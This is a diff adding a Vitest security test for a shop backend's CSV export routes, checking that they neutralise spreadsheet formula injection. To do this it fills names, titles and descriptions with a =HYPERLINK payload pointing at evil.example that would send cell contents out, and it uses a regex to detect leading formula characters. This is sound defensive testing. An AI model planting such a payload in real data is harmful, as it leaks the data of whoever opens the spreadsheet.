@@ -1,0 +1,72 @@
+import { parse } from 'csv-parse/sync';
+import { sql } from 'kysely';
+import { beforeAll, describe, expect, test } from 'vitest';
+import type { AnyCall } from '#platform/call.ts';
+import { allRoutes } from '#server/routes.ts';
+import { testShop } from '../../support/shop.ts';
+import { EXPECTED, type Scene } from '../matrix/expected.ts';
+import { type Cast, setScene, tokenOf } from '../matrix/scene.ts';
+import { GROUPS, type Who } from '../matrix/who.ts';
+
+const shop = await testShop();
+let cast: Cast;
+let scene: Scene;
+
+const FORMULA = `=HYPERLINK("http://evil.example?"&A1,"هنا")`;
+
+/** What people, shops, goods and sections are called is a formula. */
+beforeAll(async () => {
+  ({ cast, scene } = await setScene(shop));
+  await shop.rows(sql`
+    with people as (update users set name = ${FORMULA}),
+         merchants as (update merchants set name_ar = ${FORMULA}, legal_name = ${FORMULA}, activity = ${FORMULA}),
+         shelf as (update categories set name_ar = ${FORMULA}),
+         problems as (insert into import_problems (import_id, row_number, column_key, value, reason) values (${scene.importId}, 1, 'title', ${FORMULA}, 'title_missing'))
+    update products set title = ${FORMULA}, description = ${FORMULA}`);
+});
+
+/** Calls that reply with a table: those whose input has a format. */
+const tables = allRoutes
+  .map(({ call }) => call)
+  .filter(
+    call => call.replies === 'file' && 'format' in ((call.input.def as { shape?: object }).shape ?? {}),
+  );
+
+const whoFor = ({ method, path }: AnyCall) => {
+  const allowed: readonly Who[] = GROUPS[EXPECTED[`${method} ${path}`]?.who ?? 'anyone'];
+  return (['super_admin', 'merchant'] as const).filter(who => allowed.includes(who));
+};
+
+const input = ({ path }: AnyCall) => ({
+  importId: scene.importId,
+  statementId: scene.statementId,
+  format: 'csv',
+  ...(path.endsWith('/report/export') && { from: '2020-01-01', to: '2020-12-31', by: 'category' }),
+  ...(path.endsWith('/merchant/export') && { tab: 'active' }),
+});
+
+describe('no text of anybody runs in the spreadsheet of whoever opens it', () => {
+  const asked = tables.flatMap(call => whoFor(call).map(who => [call.path, who, call] as const));
+  test.each(asked)('%s, by a %s', async (_, who, call) => {
+    const token = (await tokenOf(shop, cast, who)) ?? '';
+    const { status, bytes, text } = await shop.call(call, input(call) as never, { token });
+    expect([status, status === 200 ? '' : text]).toEqual([200, '']);
+    const cells = (parse(bytes, { bom: true, relax_column_count: true }) as string[][]).flat();
+    expect(cells.filter(cell => /^[\s\uFEFF]*[=+@-]/.test(cell) && Number.isNaN(Number(cell)))).toEqual([]);
+  });
+
+  test('those that hold texts were tried with formulas in them', async () => {
+    const token = (await tokenOf(shop, cast, 'super_admin')) ?? '';
+    const held: string[] = [];
+    for (const call of tables) {
+      const { text } = await shop.call(call, input(call) as never, { token });
+      if (text.includes('HYPERLINK')) held.push(call.path);
+    }
+    // An order keeps the names of its day: orders/back-office.test.ts.
+    expect(held).toEqual([
+      '/api/web/merchant/export',
+      '/api/web/desk/product-imports/:importId/problems-file',
+      '/api/web/desk/products-export',
+    ]);
+  });
+});
